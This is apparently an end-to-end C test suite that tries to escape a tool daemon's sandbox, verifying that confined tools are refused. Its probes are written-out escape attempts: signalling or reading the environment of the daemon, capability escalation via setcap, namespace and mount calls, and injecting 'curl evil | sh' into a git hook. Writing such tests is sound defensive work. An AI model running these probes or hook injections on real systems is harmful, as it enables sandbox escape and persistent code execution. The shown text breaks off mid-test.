/*
 * Escaping the sandbox profiles (doc/design.md §7, Sandbox; PROTOCOL.md
 * §7.1) from inside real tools: every side door an attacker would try, from
 * a read-only and a workspace-write tool, and the same probe under "none"
 * to show that it sees its effect. Run in both supervision modes.
 */
#include <criterion/criterion.h>
#include <arpa/inet.h>
#include <fcntl.h>
#include <jansson.h>
#include <linux/capability.h>
#include <linux/landlock.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

#include "e2e.h"

#define SLOW 30000
#define nitems(a) (sizeof(a) / sizeof((a)[0]))

TestSuite(escape, .fini = e2e_fini);

static const char *const profiles[][2] = {
	{ "ro", "read-only" }, { "ww", "workspace-write" },
};
/* The tools of the profiles the test's daemon can enforce (world_start). */
static const char *confined[2];
static size_t nconfined;

struct world {
	struct daemon *d;
	struct client *c;
	json_t *sid;
	char ws[128], home[128], root[128], sibling[128];
};

static json_t *
tool(const char *name, const char *sandbox)
{
	char def[512];

	snprintf(def, sizeof def, "{\"name\":\"%s\",\"command\":[\"/bin/sh\","
	    "\"-c\",\"{script}\"],\"inputSchema\":{\"type\":\"object\"},"
	    "\"sandbox\":%s}", name, sandbox);
	return e2e_json(def);
}

/*
 * A daemon and a session whose cwd is a fresh workspace, HOME a directory
 * beside it, with a tool per profile, and those of the profiles the daemon
 * can enforce here (initialize says) in confined.
 */
static void
world_start_wrapped(struct world *w, const char *const *wrapper)
{
	json_t *tools = json_array(), *env;
	char roots[256];
	size_t i;

	w->d = wrapper != NULL ? d_start_wrapped(wrapper, NULL) : d_start(NULL);
	w->c = c_open(w->d);
	snprintf(w->ws, sizeof w->ws, "%s", d_path(w->d, "ws"));
	snprintf(w->home, sizeof w->home, "%s", d_path(w->d, "home"));
	snprintf(w->root, sizeof w->root, "%s", d_path(w->d, "root"));
	snprintf(w->sibling, sizeof w->sibling, "%s", d_path(w->d, "sibling"));
	cr_assert(mkdir(w->ws, 0755) == 0 && mkdir(w->home, 0755) == 0 &&
	    mkdir(w->root, 0755) == 0 && mkdir(w->sibling, 0755) == 0);
	snprintf(roots, sizeof roots, "{\"mode\":\"workspace-write\","
	    "\"writableRoots\":[\"%s\"]}", w->root);
	json_array_append_new(tools, tool("ro", "\"read-only\""));
	json_array_append_new(tools, tool("ww", "\"workspace-write\""));
	json_array_append_new(tools, tool("wwn", "{\"mode\":"
	    "\"workspace-write\",\"network\":true}"));
	json_array_append_new(tools, tool("wwr", roots));
	json_array_append_new(tools, tool("none", "\"none\""));
	env = json_pack("{s:s}", "HOME", w->home);
	w->sid = c_session(w->c, json_pack("{s:o, s:s, s:o}", "tools", tools,
	    "cwd", w->ws, "env", env));
	nconfined = 0;
	for (i = 0; i < nitems(profiles); i++)
		if (c_can(w->c, profiles[i][1]))
			confined[nconfined++] = profiles[i][0];
}

static void
world_start(struct world *w)
{
	world_start_wrapped(w, NULL);
}

static void
world_stop(struct world *w)
{
	json_decref(w->sid);
	c_close(w->c);
	d_stop(w->d);
}

/* Run one tool alone; its tool_result params (new reference). */
static json_t *
run(struct world *w, const char *name, const char *script)
{
	json_t *input = json_pack("{s:s}", "script", script), *list, *r;
	char *text = json_dumps(input, JSON_COMPACT);

	json_decref(c_add(w->c, json_string_value(w->sid), "t", name, text));
	free(text);
	json_decref(input);
	json_decref(c_call(w->c, "drain", json_pack("{s:O}", "sessionId",
	    w->sid)));
	list = c_until_only(w->c, "turn_end", "tool_result", SLOW);
	cr_assert_eq(json_array_size(list), 1);
	r = json_incref(json_array_get(list, 0));
	json_decref(list);
	return r;
}

/* The probe ran to its end (never killed) and succeeded or not. */
static bool
probe(struct world *w, const char *name, const char *script)
{
	json_t *r = run(w, name, script);
	const char *reason = e2e_reason(r);
	bool ok;

	cr_assert(strcmp(reason, "ok") == 0 || strcmp(reason, "exit") == 0,
	    "%s: %s ended by %s: %s", name, script, reason, e2e_content(r));
	ok = !e2e_is_error(r);
	json_decref(r);
	return ok;
}

/* A tool of each profile the daemon cannot enforce here is refused. */
static void
world_check_refusals(struct world *w)
{
	json_t *r;
	size_t i;

	for (i = 0; i < nitems(profiles); i++) {
		if (c_can(w->c, profiles[i][1]))
			continue;
		r = run(w, profiles[i][0], "true");
		cr_assert_str_eq(e2e_reason(r), "spawn_failed", "%s",
		    e2e_content(r));
		json_decref(r);
	}
}

/* Skip, after checking the refusal, unless both profiles hold here. */
static bool
world_skip(struct world *w)
{
	if (nconfined == nitems(profiles))
		return false;
	world_check_refusals(w);
	world_stop(w);
	cr_skip_test("the daemon cannot enforce both profiles here "
	    "(initialize says so)");
	return true;
}

/*
 * For the tests that probe each profile alike: skip only where neither
 * holds; a profile that does not is checked to be refused.
 */
static bool
world_skip_unless_one(struct world *w)
{
	world_check_refusals(w);
	if (nconfined > 0)
		return false;
	world_stop(w);
	cr_skip_test("the daemon can enforce no profile here (initialize "
	    "says so)");
	return true;
}

/* The daemon's pid, as stats says. */
static long
daemon_pid(struct world *w)
{
	json_t *stats = c_call(w->c, "stats", json_object());
	long pid = (long)e2e_int(stats, "pid");

	json_decref(stats);
	return pid;
}

static bool
exists(const char *path)
{
	struct stat st;

	return lstat(path, &st) == 0;
}

Test(escape, no_metadata_change_outside_the_writable_areas)
{
	struct world w;
	char victim[160], script[1024];
	struct stat before, after;
	char value[8];
	size_t i;

	world_start(&w);
	if (world_skip_unless_one(&w))
		return;
	snprintf(victim, sizeof victim, "%s/victim", w.sibling);
	cr_assert(close(creat(victim, 0644)) == 0);
	for (i = 0; i < nconfined; i++) {
		cr_assert(stat(victim, &before) == 0);
		/* Each door separately: one that opens fails the test. */
		snprintf(script, sizeof script, "chmod 600 %s", victim);
		cr_assert(!probe(&w, confined[i], script), "%s", confined[i]);
		snprintf(script, sizeof script, "touch -d 2001-01-01 %s",
		    victim);
		cr_assert(!probe(&w, confined[i], script), "%s", confined[i]);
		snprintf(script, sizeof script, "ln %s %s.link", victim, victim);
		cr_assert(!probe(&w, confined[i], script), "%s", confined[i]);
		snprintf(script, sizeof script, "python3 -c \"import os; "
		    "os.setxattr('%s', 'user.x', b'1')\"", victim);
		cr_assert(!probe(&w, confined[i], script), "%s", confined[i]);
		cr_assert(stat(victim, &after) == 0);
		cr_assert_eq(after.st_mode, before.st_mode, "%s", confined[i]);
		cr_assert_eq(after.st_mtime, before.st_mtime, "%s",
		    confined[i]);
		cr_assert(!exists(strcat(strcpy(script, victim), ".link")));
		cr_assert(getxattr(victim, "user.x", value, sizeof value) ==
		    -1);
	}
	/* The same doors under "none": each one opens. */
	snprintf(script, sizeof script, "chmod 600 %s && touch -d 2001-01-01 "
	    "%s && ln %s %s.link", victim, victim, victim, victim);
	cr_assert(probe(&w, "none", script));
	cr_assert(stat(victim, &after) == 0);
	cr_assert_eq(after.st_mode & 0777, 0600);
	cr_assert(exists(strcat(strcpy(script, victim), ".link")));
	world_stop(&w);
}

/* The state letter of /proc/PID/stat ('T': stopped). */
static char
proc_state_now(pid_t pid)
{
	char path[64], *text, *p, state = '?';

	snprintf(path, sizeof path, "/proc/%ld/stat", (long)pid);
	if ((text = e2e_read_file(path, NULL)) != NULL &&
	    (p = strrchr(text, ')')) != NULL)
		state = p[2];
	free(text);
	return state;
}

/*
 * Whether pid is stopped, given a SIGSTOP sent before the call time to
 * arrive (delivery is asynchronous): polled for up to 2 s when it is
 * expected, and 0.2 s when it must not come.
 */
static bool
stopped(pid_t pid, bool expected)
{
	int ms;

	for (ms = 0; ms < (expected ? 2000 : 200); ms += 10) {
		if (proc_state_now(pid) == 'T')
			return true;
		usleep(10000);
	}
	return false;
}

/* A process of the test's own, for tools to try to signal. */
static pid_t
victim_start(void)
{
	pid_t pid = fork();

	if (pid == 0) {
		execl("/bin/sleep", "sleep", "100", (char *)NULL);
		_exit(127);
	}
	cr_assert_gt(pid, 0);
	return pid;
}

/*
 * Under each profile neither the victim nor the daemon can be stopped (a
 * stopped daemon would freeze every session); under "none" the victim can,
 * which shows the probe sees its effect. Then the victim is gone.
 */
static void
signals_stay_in(struct world *w, pid_t victim)
{
	char script[128];
	long dpid = daemon_pid(w);
	size_t i;

	for (i = 0; i < nconfined; i++) {
		snprintf(script, sizeof script, "kill -STOP %ld", (long)victim);
		cr_assert(!probe(w, confined[i], script));
		cr_assert(!stopped(victim, false), "%s", confined[i]);
		snprintf(script, sizeof script, "kill -STOP %ld", dpid);
		cr_assert(!probe(w, confined[i], script));
		cr_assert(!stopped((pid_t)dpid, false), "%s", confined[i]);
		c_ping(w->c);
	}
	snprintf(script, sizeof script, "kill -STOP %ld", (long)victim);
	cr_assert(probe(w, "none", script));
	cr_assert(stopped(victim, true));
	kill(victim, SIGKILL);
	waitpid(victim, NULL, 0);
}

Test(escape, no_signal_or_ptrace_outside_the_tool)
{
	struct world w;
	char script[512];
	long dpid;
	pid_t victim;
	size_t i;

	world_start(&w);
	if (world_skip_unless_one(&w))
		return;
	dpid = daemon_pid(&w);
	victim = victim_start();
	for (i = 0; i < nconfined; i++) {
		/* From a grandchild that left the tool's session. */
		snprintf(script, sizeof script, "setsid sh -c 'kill -TERM %ld' "
		    "& wait $!", (long)victim);
		cr_assert(!probe(&w, confined[i], script));
		snprintf(script, sizeof script, "cat /proc/%ld/environ >"
		    "/dev/null", dpid);
		cr_assert(!probe(&w, confined[i], script));
	}
	cr_assert_eq(waitpid(victim, NULL, WNOHANG), 0, "the victim died");
	signals_stay_in(&w, victim);
	world_stop(&w);
}

/* What pid_probe.py says of CALL on pid from a tool: 0 done, 10 refused,
 * 11 not in this kernel. */
static int
pid_probe(struct world *w, const char *name, const char *call, long pid)
{
	const char *probe = getenv("STEXEC_PID_PROBE");
	char script[512];
	json_t *r;
	int code;

	cr_assert(probe != NULL, "STEXEC_PID_PROBE is not set");
	snprintf(script, sizeof script, "python3 %s %s %ld", probe, call, pid);
	r = run(w, name, script);
	code = (int)e2e_int(json_object_get(r, "meta"), "exitCode");
	cr_assert(code == 0 || code == 10 || code == 11, "%s %s: %s", name,
	    call, e2e_content(r));
	json_decref(r);
	return code;
}

/*
 * No system call of a sandboxed tool acts on a process outside it: the
 * daemon's limits (a file limit of 8 would fail every spawn, a CPU limit
 * of 1 s would end it), its nice value, CPUs, scheduling, I/O priority and
 * memory stay its own. Landlock scopes signals and ptrace, not these, so
 * the filter takes pid 0 alone. Each call works under "none", on the same
 * daemon, which shows the probe sees its effect (none changes anything).
 */
Test(escape, no_call_acts_on_a_process_outside_the_tool)
{
	static const char *const calls[] = { "prlimit", "setpriority",
	    "sched_setaffinity", "sched_setscheduler", "sched_setparam",
	    "sched_setattr", "ioprio_set", "migrate_pages", "move_pages",
	    "process_madvise" };
	char path[64], *before, *after;
	struct world w;
	size_t i, j;
	long dpid;
	int code, prio;

	world_start(&w);
	if (world_skip_unless_one(&w))
		return;
	dpid = daemon_pid(&w);
	snprintf(path, sizeof path, "/proc/%ld/limits", dpid);
	before = e2e_read_file(path, NULL);
	/* What it started with (a test run under nice gives it that). */
	prio = getpriority(PRIO_PROCESS, (id_t)dpid);
	for (i = 0; i < nitems(calls); i++) {
		code = pid_probe(&w, "none", calls[i], dpid);
		if (code == 11) {
			cr_log_warn("%s: not in this kernel", calls[i]);
			continue;
		}
		/*
		 * The last three need ptrace's permission, which a daemon
		 * that is not dumpable gives no tool of its uid: only those
		 * with CAP_SYS_PTRACE (root's, but a container's) get it
		 * unconfined.
		 */
		cr_assert_eq(code, i >= nitems(calls) - 3 &&
		    !e2e_has_cap(CAP_SYS_PTRACE) ? 10 : 0, "%s: unconfined, "
		    "as uid %ld", calls[i], (long)geteuid());
		for (j = 0; j < nconfined; j++)
			cr_assert_eq(pid_probe(&w, confined[j], calls[i], dpid),
			    10, "%s: %s on the daemon was not refused",
			    confined[j], calls[i]);
	}
	/* PRIO_USER, who 0: every process of the tool's user, ours too. */
	for (j = 0; j < nconfined; j++)
		cr_assert(!probe(&w, confined[j], "python3 -c 'import os; "
		    "os.setpriority(os.PRIO_USER, 0, 19)'"), "%s", confined[j]);
	/* On itself each still works: ulimit, nice, taskset. */
	for (j = 0; j < nconfined; j++)
		cr_assert(probe(&w, confined[j], "ulimit -n 64 && nice -n 5 "
		    "true && taskset -c 0 true && ionice -c 3 true"), "%s", confined[j]);
	/* Not dumpable: an unconfined tool of our uid cannot read it. */
	if (!e2e_has_cap(CAP_SYS_PTRACE))
		cr_assert(!probe(&w, "none", "cat /proc/$PPID/environ "
		    ">/dev/null"));
	after = e2e_read_file(path, NULL);
	cr_assert_str_eq(after, before);
	cr_assert_eq(getpriority(PRIO_PROCESS, (id_t)dpid), prio);
	c_ping(w.c);
	free(before);
	free(after);
	world_stop(&w);
}

/*
 * Network rules need a network namespace the daemon can make: a root
 * daemon says it can, and runs such a tool in one where nothing but its
 * proxy answers; one that cannot (not root) says why, and refuses the
 * tool, never running it with the network open or shut.
 */
Test(escape, network_rules_run_only_where_they_hold)
{
	struct world w;
	json_t *caps, *sb, *tools, *sid, *r;
	const char *why;
	bool rules;

	world_start(&w);
	if (world_skip(&w))
		return;
	caps = c_call(w.c, "initialize", json_object());
	sb = json_object_get(json_object_get(json_object_get(caps,
	    "capabilities"), "enforcement"), "sandbox");
	rules = json_is_true(json_object_get(sb, "networkRules"));
	why = e2e_str(json_object_get(sb, "whyNot"), "networkRules");
	cr_assert_eq(rules, geteuid() == 0, "networkRules: %d as uid %ld",
	    rules, (long)geteuid());
	cr_assert(rules || (why != NULL && *why != '\0'), "whyNot says why");
	tools = json_array();
	json_array_append_new(tools, tool("named", "{\"mode\":\"read-only\","
	    "\"network\":{\"allow\":[\"example.test\"]}}"));
	sid = c_session(w.c, json_pack("{s:o, s:s}", "tools", tools, "cwd",
	    w.ws));
	json_decref(w.sid);
	w.sid = sid;
	r = run(&w, "named", "env | grep -c '^HTTP_PROXY=http://127.0.0.1:'; "
	    "python3 -c 'import socket; socket.create_connection("
	    "(\"127.0.0.1\", 9), 2)' 2>&1 | tail -1");
	if (rules) {
		cr_assert_str_neq(e2e_reason(r), "spawn_failed", "%s",
		    e2e_content(r));
		cr_assert_not_null(strstr(e2e_content(r), "1\n"), "the proxy "
		    "variables: %s", e2e_content(r));
		cr_assert_not_null(strstr(e2e_content(r), "Connection refused"),
		    "a direct connect meets an empty namespace: %s",
		    e2e_content(r));
	} else {
		cr_assert_str_eq(e2e_reason(r), "spawn_failed");
		cr_assert_not_null(strstr(e2e_content(r), why), "%s",
		    e2e_content(r));
	}
	json_decref(r);
	json_decref(caps);
	world_stop(&w);
}

/* Whether a connection came to the listening socket within ms, scaled. */
static bool
accepted(int fd, int ms)
{
	struct pollfd p = { fd, POLLIN, 0 };
	int c;

	if (poll(&p, 1, e2e_ms(ms)) != 1 ||
	    (c = accept(fd, NULL, NULL)) == -1)
		return false;
	close(c);
	return true;
}

Test(escape, no_network_unless_allowed)
{
	struct sockaddr_in a = { .sin_family = AF_INET };
	struct sockaddr_un u = { .sun_family = AF_UNIX };
	socklen_t len = sizeof a;
	struct world w;
	char script[512], name[64];
	int tcp, udp, ux;
	size_t i;

	world_start(&w);
	if (world_skip(&w))
		return;
	a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	tcp = socket(AF_INET, SOCK_STREAM, 0);
	cr_assert(bind(tcp, (struct sockaddr *)&a, sizeof a) == 0 &&
	    listen(tcp, 8) == 0 && getsockname(tcp, (struct sockaddr *)&a,
	    &len) == 0);
	udp = socket(AF_INET, SOCK_DGRAM, 0);
	snprintf(name, sizeof name, "stexec-escape-%ld", (long)getpid());
	memcpy(u.sun_path + 1, name, strlen(name));
	ux = socket(AF_UNIX, SOCK_STREAM, 0);
	cr_assert(bind(ux, (struct sockaddr *)&u, (socklen_t)(offsetof(
	    struct sockaddr_un, sun_path) + 1 + strlen(name))) == 0 &&
	    listen(ux, 8) == 0);

	for (i = 0; i < nconfined; i++) {
		snprintf(script, sizeof script, "python3 -c \"import socket; "
		    "socket.create_connection(('127.0.0.1', %d), 2)\"",
		    ntohs(a.sin_port));
		cr_assert(!probe(&w, confined[i], script));
		cr_assert(!accepted(tcp, 0), "%s reached TCP", confined[i]);
		cr_assert(!probe(&w, confined[i], "python3 -c \"import socket; "
		    "socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\""));
		snprintf(script, sizeof script, "python3 -c \"import socket; "
		    "socket.socket(socket.AF_UNIX).connect('\\0%s')\"", name);
		cr_assert(!probe(&w, confined[i], script));
		cr_assert(!accepted(ux, 0), "%s reached the abstract socket",
		    confined[i]);
	}
	/* workspace-write with the network, and none, reach TCP and UDP. */
	snprintf(script, sizeof script, "python3 -c \"import socket; "
	    "socket.create_connection(('127.0.0.1', %d), 2); "
	    "socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\"",
	    ntohs(a.sin_port));
	cr_assert(probe(&w, "wwn", script));
	cr_assert(accepted(tcp, 2000));
	cr_assert(probe(&w, "none", script));
	cr_assert(accepted(tcp, 2000));
	/* But not Unix sockets, even with the network. */
	snprintf(script, sizeof script, "python3 -c \"import socket; "
	    "socket.socket(socket.AF_UNIX).connect('\\0%s')\"", name);
	cr_assert(!probe(&w, "wwn", script));
	cr_assert(probe(&w, "none", script));
	cr_assert(accepted(ux, 2000));
	close(tcp);
	close(udp);
	close(ux);
	world_stop(&w);
}

Test(escape, a_sandboxed_tool_cannot_reach_its_own_daemon)
{
	const char *cli = getenv("STEXEC_CLI");
	struct world w;
	char script[1024], marker[160];
	long dpid;
	size_t i, r;

	cr_assert(cli != NULL, "STEXEC_CLI is not set");
	world_start(&w);
	if (world_skip_unless_one(&w))
		return;
	dpid = daemon_pid(&w);
	snprintf(marker, sizeof marker, "%s/marker", w.sibling);
	for (i = 0; i < nconfined; i++) {
		/* Every way to name the socket: its path, through the
		 * daemon's root, through a symlink the tool makes. */
		for (r = 0; r < 3; r++) {
			char sock[256];

			if (r == 0)
				snprintf(sock, sizeof sock, "%s", w.d->sock);
			else if (r == 1)
				snprintf(sock, sizeof sock, "/proc/%ld/root%s",
				    dpid, w.d->sock);
			else
				snprintf(sock, sizeof sock, "$TMPDIR/link");
			snprintf(script, sizeof script, "ln -s %s $TMPDIR/link; "
			    "STEXEC_SOCKET=%s %s run bash '{\"command\":\"touch "
			    "%s\"}'", w.d->sock, sock, cli, marker);
			cr_assert(!probe(&w, confined[i], script), "%s via %s",
			    confined[i], sock);
			cr_assert(!exists(marker), "%s ran a tool through %s",
			    confined[i], sock);
		}
	}
	snprintf(script, sizeof script, "%s --socket %s run bash "
	    "'{\"command\":\"touch %s\"}'", cli, w.d->sock, marker);
	cr_assert(probe(&w, "none", script));
	cr_assert(exists(marker));
	world_stop(&w);
}

/*
 * While another tool runs, a spawn does not wait for its child's execve
 * (spawn.h, spawn_launch; test_proc shows which way a spawn went): the
 * child then takes its steps beside the loop, and is confined the same.
 * A tool of another session keeps running meanwhile.
 */
Test(escape, a_tool_started_beside_a_running_one_is_confined_the_same)
{
	const char *cli = getenv("STEXEC_CLI");
	struct world w;
	struct client *bg;
	json_t *bgsid, *tools;
	char script[1024], victim[160], marker[160];
	size_t i;

	cr_assert(cli != NULL, "STEXEC_CLI is not set");
	world_start(&w);
	if (world_skip_unless_one(&w))
		return;
	bg = c_open(w.d);
	tools = json_array();
	json_array_append_new(tools, tool("bg", "\"none\""));
	bgsid = c_session(bg, json_pack("{s:o}", "tools", tools));
	json_decref(c_add(bg, json_string_value(bgsid), "bg", "bg",
	    "{\"script\":\"sleep 60\"}"));
	snprintf(victim, sizeof victim, "%s/victim", w.sibling);
	snprintf(marker, sizeof marker, "%s/marker", w.sibling);
	for (i = 0; i < nconfined; i++) {
		snprintf(script, sizeof script, "touch %s", victim);
		cr_assert(!probe(&w, confined[i], script), "%s", confined[i]);
		cr_assert(!exists(victim), "%s wrote beside the workspace",
		    confined[i]);
		snprintf(script, sizeof script, "kill -STOP %ld",
		    daemon_pid(&w));
		cr_assert(!probe(&w, confined[i], script), "%s", confined[i]);
		snprintf(script, sizeof script, "%s --socket %s run bash "
		    "'{\"command\":\"touch %s\"}'", cli, w.d->sock, marker);
		cr_assert(!probe(&w, confined[i], script), "%s", confined[i]);
		cr_assert(!exists(marker), "%s reached its daemon",
		    confined[i]);
	}
	snprintf(script, sizeof script, "touch %s", victim);
	cr_assert(probe(&w, "none", script));
	cr_assert(exists(victim));
	json_decref(c_call(bg, "closeSession", json_pack("{s:O}", "sessionId",
	    bgsid)));
	json_decref(bgsid);
	c_close(bg);
	world_stop(&w);
}

/*
 * The second wall: were the filter ever to let a socket through, the
 * daemon itself refuses a peer that belongs to a sandboxed tool. A process
 * that carries a running read-only tool's token stands in for one.
 */
Test(escape, the_daemon_refuses_a_peer_of_a_sandboxed_tool)
{
	const char *cli = getenv("STEXEC_CLI");
	struct world w;
	json_t *n, *data;
	char cmd[1024];
	const char *token;
	int status;

	cr_assert(cli != NULL);
	world_start(&w);
	if (world_skip(&w))
		return;
	json_decref(c_call(w.c, "subscribe", json_pack("{s:O}", "sessionId",
	    w.sid)));
	json_decref(c_add(w.c, json_string_value(w.sid), "t", "ro",
	    "{\"script\":\"printf '{\\\"progress\\\":\\\"%s\\\"}\\\\n' "
	    "\\\"$STEXEC_PROC_TOKEN\\\" >&3; sleep 30\"}"));
	n = c_wait(w.c, "progress", SLOW);
	data = json_object_get(json_object_get(n, "params"), "data");
	token = json_string_value(data);
	cr_assert(token != NULL && *token != '\0');
	snprintf(cmd, sizeof cmd, "STEXEC_PROC_TOKEN=%s %s --socket %s ping "
	    "2>%s/refusal", token, cli, w.d->sock, w.d->dir);
	status = system(cmd);
	cr_assert(WIFEXITED(status) && WEXITSTATUS(status) != 0);
	snprintf(cmd, sizeof cmd, "%s/refusal", w.d->dir);
	{
		char *text = e2e_read_file(cmd, NULL);

		cr_assert(text != NULL && strstr(text, "sandboxed tool") !=
		    NULL, "%s", text != NULL ? text : "(nothing)");
		free(text);
	}
	json_decref(n);
	/* Without the token the same client is served. */
	snprintf(cmd, sizeof cmd, "%s --socket %s ping >/dev/null", cli,
	    w.d->sock);
	cr_assert_eq(system(cmd), 0);
	json_decref(c_call(w.c, "abort", json_pack("{s:O, s:s}", "sessionId",
	    w.sid, "reason", "cancel")));
	json_decref(c_call(w.c, "drain", json_pack("{s:O}", "sessionId",
	    w.sid)));
	json_decref(c_until(w.c, "turn_end", SLOW));
	world_stop(&w);
}

Test(escape, ipc_keys_namespaces_and_mounts_are_refused_not_killed)
{
	static const char *const doors[] = {
		"ipcmk -M 1024",
		"unshare -r true",
		"unshare -m true",
		"mount -t tmpfs none $TMPDIR",
		"python3 -c \"import ctypes, os, sys; l = ctypes.CDLL(None, "
		    "use_errno=True); r = l.syscall(248, b'user', b'k', b'v', 1, "
		    "-3); sys.exit(r == -1)\"",
	};
	struct world w;
	size_t i, j;

	world_start(&w);
	if (world_skip_unless_one(&w))
		return;
	for (i = 0; i < nconfined; i++)
		for (j = 0; j < nitems(doors); j++)
			cr_assert(!probe(&w, confined[i], doors[j]), "%s: %s",
			    confined[i], doors[j]);
	/* As a control: IPC works unconfined (the key probe is x86_64's). */
	cr_assert(probe(&w, "none", "id=$(ipcmk -M 1024 | grep -o '[0-9]*$') "
	    "&& ipcrm -m $id"));
	world_stop(&w);
}

/*
 * A root daemon's sandboxed tool is root without a capability, and no exec
 * gives one back: not root's own rule, not a file's capabilities. The
 * probe: a file only a capability can read (root's, mode 0000).
 */
Test(escape, a_root_tool_has_no_capability_and_gains_none)
{
	static const char *const setcap = "/usr/sbin/setcap";
	static const char has_caps[] = "grep -E '^Cap(Inh|Prm|Eff|Amb):' "
	    "/proc/self/status | grep -qv '[[:space:]]0*$'";
	char secret[160], capcat[160], cmd[512], script[512];
	struct world w;
	size_t i;
	int fd;

	if (geteuid() != 0)
		cr_skip_test("the daemon is not root");
	world_start(&w);
	if (world_skip_unless_one(&w))
		return;
	snprintf(secret, sizeof secret, "%s/secret", w.sibling);
	snprintf(capcat, sizeof capcat, "%s/capcat", w.sibling);
	fd = open(secret, O_WRONLY | O_CREAT | O_EXCL, 0);
	cr_assert(fd != -1 && write(fd, "s3cret\n", 7) == 7 && close(fd) == 0);
	/* A copy of cat that may read anything, by its file capability. */
	snprintf(cmd, sizeof cmd, "cp /bin/cat %s && %s cap_dac_override+ep %s",
	    capcat, setcap, capcat);
	cr_assert(access(setcap, X_OK) == 0, "%s is missing", setcap);
	cr_assert(system(cmd) == 0, "%s", cmd);
	for (i = 0; i < nconfined; i++) {
		cr_assert(!probe(&w, confined[i], has_caps), "%s has "
		    "capabilities", confined[i]);
		snprintf(script, sizeof script, "cat %s", secret);
		cr_assert(!probe(&w, confined[i], script), "%s", confined[i]);
		snprintf(script, sizeof script, "%s %s", capcat, secret);
		cr_assert(!probe(&w, confined[i], script), "%s: a file's "
		    "capability came back", confined[i]);
	}
	/* As a control: the same probes see root's power unconfined. */
	cr_assert(probe(&w, "none", has_caps));
	snprintf(script, sizeof script, "cat %s", secret);
	cr_assert(probe(&w, "none", script));
	world_stop(&w);
}

Test(escape, workspace_write_writes_the_workspace_and_nothing_else)
{
	struct world w;
	char script[1024], path[256];

	world_start(&w);
	if (world_skip(&w))
		return;
	/* A fresh repository in the cwd: init, add, commit. */
	cr_assert(probe(&w, "ww", "git init -q . && echo hi > a.txt && "
	    "git add a.txt && git -c user.email=a@b -c user.name=n commit -q "
	    "-m first && mkdir -p sub && printf 'all:\\n\\ttouch built\\n' > "
	    "Makefile && { ! command -v make >/dev/null || make -s; }"));
	snprintf(path, sizeof path, "%s/.git/HEAD", w.ws);
	cr_assert(exists(path));
	/* $HOME and a sibling directory are not the workspace. */
	cr_assert(!probe(&w, "ww", "echo x > $HOME/probe"));
	snprintf(path, sizeof path, "%s/probe", w.home);
	cr_assert(!exists(path));
	snprintf(script, sizeof script, "echo x > %s/probe", w.sibling);
	cr_assert(!probe(&w, "ww", script));
	/* A writable root is writable, for the tool that names it. */
	snprintf(script, sizeof script, "echo x > %s/probe", w.root);
	cr_assert(!probe(&w, "ww", script));
	cr_assert(probe(&w, "wwr", script));
	/* A workspace of / is no sandbox for writes: refused. */
	{
		json_t *sid = c_session(w.c, json_pack("{s:[o], s:s}", "tools",
		    tool("ww", "\"workspace-write\""), "cwd", "/"));
		json_t *list, *r;

		json_decref(c_add(w.c, json_string_value(sid), "t", "ww",
		    "{\"script\":\"true\"}"));
		json_decref(c_call(w.c, "drain", json_pack("{s:O}",
		    "sessionId", sid)));
		list = c_until_only(w.c, "turn_end", "tool_result", SLOW);
		r = json_array_get(list, 0);
		cr_assert_str_eq(e2e_reason(r), "spawn_failed");
		cr_assert(strstr(e2e_content(r), "give the session a working "
		    "directory of its own") != NULL, "%s", e2e_content(r));
		json_decref(list);
		json_decref(sid);
	}
	/* Read-only writes the workspace no more than anything else. */
	cr_assert(!probe(&w, "ro", "echo x > ro.txt"));
	snprintf(path, sizeof path, "%s/ro.txt", w.ws);
	cr_assert(!exists(path));
	world_stop(&w);
}

/*
 * A TMPDIR and its Landlock ruleset serve the next tools once a tool left
 * the directory empty; a workspace-write tool's writable areas never go
 * with it: after one, a read-only tool and a workspace-write tool without
 * that root still cannot write there, in the very TMPDIR it had.
 */
Test(escape, a_reused_tmpdir_carries_no_write_right)
{
	struct world w;
	char script[512], path[256], had[256] = "";
	json_t *r;
	int i, reused = 0;

	world_start(&w);
	if (world_skip(&w))
		return;
	/* Until a reuse was seen (a busy machine may need a few tries). */
	for (i = 0; i < 20 && (i < 6 || reused == 0); i++) {
		snprintf(script, sizeof script, "echo x > %s/mine && printf %%s "
		    "\"$TMPDIR\"", w.root);
		r = run(&w, "wwr", script);
		cr_assert(!e2e_is_error(r), "%s", e2e_content(r));
		snprintf(had, sizeof had, "%s", e2e_content(r));
		json_decref(r);
		/* Long enough for the worker to take the directory back. */
		usleep((useconds_t)e2e_ms(60) * 1000);
		snprintf(script, sizeof script, "printf %%s \"$TMPDIR\"; "
		    "echo x > %s/theirs", w.root);
		r = run(&w, i % 2 ? "ro" : "ww", script);
		cr_assert(e2e_is_error(r), "%s wrote the root",
		    i % 2 ? "ro" : "ww");
		reused += strncmp(e2e_content(r), had, strlen(had)) == 0;
		json_decref(r);
		snprintf(path, sizeof path, "%s/theirs", w.root);
		cr_assert(!exists(path));
		/*
		 * Its directory taken back too before the next round: the
		 * worker takes back the waiting ones all at once, the last
		 * given first, so the earlier one would end on top.
		 */
		usleep((useconds_t)e2e_ms(60) * 1000);
	}
	cr_log_info("%d of %d directories reused", reused, i);
	cr_assert(reused > 0, "no TMPDIR was reused: the test proves nothing");
	world_stop(&w);
}

Test(escape, an_existing_repository_keeps_its_hooks_and_config)
{
	struct world w;
	char cmd[1024], hook[256], config[256], *before_hook, *before_cfg,
	    *after;

	world_start(&w);
	if (world_skip(&w))
		return;
	snprintf(cmd, sizeof cmd, "cd %s && git init -q . && printf "
	    "'#!/bin/sh\\nexit 0\\n' > .git/hooks/pre-commit && chmod +x "
	    ".git/hooks/pre-commit", w.ws);
	cr_assert_eq(system(cmd), 0);
	snprintf(hook, sizeof hook, "%s/.git/hooks/pre-commit", w.ws);
	snprintf(config, sizeof config, "%s/.git/config", w.ws);
	before_hook = e2e_read_file(hook, NULL);
	before_cfg = e2e_read_file(config, NULL);
	cr_assert(!probe(&w, "ww", "echo 'curl evil | sh' >> "
	    ".git/hooks/pre-commit"));
	cr_assert(!probe(&w, "ww", "rm -f .git/hooks/pre-commit"));
	cr_assert(!probe(&w, "ww", "echo '[core]' >> .git/config"));
